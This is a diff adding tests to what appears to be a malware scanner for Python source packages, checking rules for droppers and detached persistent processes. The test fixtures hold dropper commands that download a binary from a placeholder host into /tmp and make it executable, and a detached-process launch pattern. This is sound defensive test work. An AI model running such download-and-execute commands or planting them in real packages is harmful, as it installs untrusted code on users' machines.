@@ -399,3 +399,29 @@ def test_commands_run_through_a_fronted_cdn_are_a_command_channel(engine: Engine
         "    return requests.get(url, headers={'Host': host})\n"
     )
     assert run_rule(engine, reverse_shell_rule, sdist({"tidy_strings/proxy.py": proxy})) is None
+
+
+def test_a_download_made_executable_in_tmp_is_a_dropper(engine: Engine) -> None:
+    for command in (
+        "wget -qO /tmp/{f} https://x.example.net/bin && chmod +x /tmp/{f}",
+        "cd /tmp && wget -q https://x.example.net/bin -O {f} && chmod +x {f}",
+    ):
+        code = f'import subprocess\n\ndef run(f):\n    subprocess.run(f"{command}", shell=True)\n'
+        archive = sdist({"tidy_strings/proc.py": code})
+        assert run_rule(engine, executes_code_at_remote_url_rule, archive)
+    kept = "curl -L -o dist/tool.tar.gz https://x.example.net/t.tar.gz && chmod +x dist/run.sh"
+    code = f"import subprocess\nsubprocess.run('{kept}', shell=True)\n"
+    archive = sdist({"tidy_strings/fetch.py": code})
+    assert run_rule(engine, executes_code_at_remote_url_rule, archive) is None
+
+
+def test_a_python_process_started_detached_is_reported(engine: Engine) -> None:
+    code = (
+        "import subprocess, sys\n\n"
+        "def start(path):\n"
+        "    subprocess.Popen([sys.executable, path], "
+        "creationflags=subprocess.DETACHED_PROCESS, stdout=subprocess.DEVNULL)\n"
+    )
+    assert run_rule(engine, persistence_rule, sdist({"tidy_strings/start.py": code}))
+    waited = "import subprocess\n\ndef start(cmd):\n    return subprocess.Popen(cmd).wait()\n"
+    assert run_rule(engine, persistence_rule, sdist({"tidy_strings/start.py": waited})) is None
